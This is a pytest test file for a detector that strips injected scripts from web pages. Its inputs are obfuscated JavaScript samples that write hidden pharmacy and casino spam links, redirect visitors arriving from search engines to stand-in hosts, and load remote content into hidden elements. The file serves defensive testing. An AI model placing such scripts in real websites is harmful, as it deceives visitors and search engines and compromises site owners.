"""Scripts that make markup letter by letter, ask in pieces who sends the visitor, fill what they hide themselves."""

from __future__ import annotations

import base64

import pytest

from tests.signs.cases import restores, silent

LINKS = (
    '<div style="display:none"><a href="https://rx.example.net/">order tramadol online</a> '
    '<a href="https://bet.example.net/">casino bonus codes</a></div>'
)


MAIL = '<a href="mailto:office@library.example.org">write to us</a>'


def _numbers(text: str, change: int, way: str) -> str:
    return ",".join(str(ord(letter) ^ change if way == "^" else ord(letter) + change) for letter in text)


@pytest.mark.parametrize(
    "script",
    [
        f"var q=[{_numbers(LINKS, 11, '^')}],o='';for(i in q)o+=String.fromCharCode(q[i]^11);document.write(o);",
        f"var t=[{_numbers(LINKS, 3, '+')}],s='';for(i in t)s+=String.fromCharCode(t[i]-3);document.body.innerHTML+=s;",
        (
            f"var m=[{_numbers(LINKS[::-1], 21, '^')}],w='';for(k in m)w=String['from'+'CharCode'](m[k]^21)+w;"
            "window['doc'+'ument']['wri'+'te'](w);"
        ),
        (
            f"var e={''.join(chr(ord(letter) + 1) for letter in LINKS)!r},d='';for(var n=0;n<e.length;n++)"
            "d+=String.fromCharCode(e.charCodeAt(n)-1);document.write(d);"
        ),
        f"(0,eval)(atob('{base64.b64encode(f'document.write({LINKS!r})'.encode()).decode()}'))",
    ],
)
def test_links_made_letter_by_letter_are_read(script: str) -> None:
    restores(head=f"<script>{script}</script>\n", rule="written-links")


@pytest.mark.parametrize(
    "script",
    [
        "var a=[109,97,105,108],s='';for(i in a)s+=String.fromCharCode(a[i]^1);document.write(s);",
        (
            f"var t=[{_numbers('mailto:office@library.example.org?subject=hello', 1, '+')}],s='';"
            "for(i in t)s+=String.fromCharCode(t[i]-1);location.href=s;"
        ),
        f"var t=[{_numbers(MAIL, 1, '+')}],s='';for(i in t)s+=String.fromCharCode(t[i]-1);document.write(s);",
        (
            "var crc=[0,1996959894,3993919788,2567524794,124634137,1886057615,3915621685,2657392035,249268274,"
            "2044508324,3772115230,2547177864,162941995,2125561021,3887607047,2428444049,498536548];document.write(crc[3]^7);"
        ),
        "(0,init)('write to the office');",
    ],
)
def test_addresses_for_mail_and_tables_of_numbers_stay(script: str) -> None:
    silent(head=f"<script>{script}</script>\n")


@pytest.mark.parametrize(
    "script",
    [
        (
            "(function(r){var e=['goo'+'gle','yan'+'dex'];for(var i in e)if(r.indexOf(e[i])>0)"
            "setTimeout(function(){top.location.replace('https://go.example.net/in?r='+r)},500)})(document.referrer);"
        ),
        'var f=document.referrer;if(f.indexOf("b"+"ing.")>-1||f.indexOf("ya"+"hoo.")>-1){location.href="https://go.example.net/x/"}',
        "if(/duckduckgo/.test(document.referrer)&&!sessionStorage.getItem('v')){window.location='https://go.example.net/'}",
        "var s=document.referrer.split('/')[2];if(s=='www.go'+'ogle.com'){location.replace('https://go.example.net/s')}",
        "var u=document.referrer;['bai'+'du','so'+'gou'].forEach(function(k){if(u.match(k))location.assign('https://go.example.net/b')});",
    ],
)
def test_search_engines_named_in_pieces_are_asked_for(script: str) -> None:
    restores(head=f"<script>{script}</script>\n", rule="search-redirect")


@pytest.mark.parametrize(
    "script",
    [
        "if(document.referrer.indexOf('goo'+'gle')>0){document.title='Welcome from a search'}",
        "var r=document.referrer;if(r.indexOf('goo'+'gle')>0){location.href='/welcome'}",
        "if(/android/i.test(navigator.userAgent)&&document.referrer==''){location.href='https://m.example.org/'+'app'}",
    ],
)
def test_who_greets_visitors_of_a_search_engine_stays(script: str) -> None:
    silent(head=f"<script>{script}</script>\n")


def test_a_visitor_is_led_away_to_what_the_page_links_elsewhere() -> None:
    page = '<p><a href="https://www.example.net/partners">Our partners</a></p>\n'
    script = "<script>if(/google|bing/.test(document.referrer)){location.replace('https://go.example.net/casino')}</script>\n"
    restores(head=script, kept_body=page, body=page, rule="search-redirect")


HIDES = (
    "e.style.cssText='position:absolute;left:-5000px'",
    "e.style.cssText='display:none'",
    "e.style='height:0;overflow:hidden;position:absolute;clip:rect(0,0,0,0)'",
    "e.setAttribute('style','position:fixed;top:-4000px')",
    "e.style.cssText='visibility:hidden;position:absolute'",
)


@pytest.mark.parametrize("hides", HIDES)
def test_what_a_script_fills_and_hides_itself_goes_with_it(hides: str) -> None:
    box = '<span id="k3"></span>'
    script = (
        "<script>var x=new XMLHttpRequest;x.open('GET','//feed.example.net/l?d='+location.host,true);"
        f"x.onload=function(){{var e=document.getElementById('k3');{hides};"
        "e.insertAdjacentHTML('beforeend',x.responseText)};"
        "x.send()</script>\n"
    )
    restores(body=box + script, rule="fetched-block")


def test_what_a_script_shows_once_it_is_filled_stays() -> None:
    silent(
        body='<div id="news"></div><script>var e=document.getElementById("news");e.style.cssText="display:none";'
        'fetch("https://feed.example.net/news").then(r=>r.text()).then(t=>{e.innerHTML=t;e.style.display="block"})</script>\n'
    )
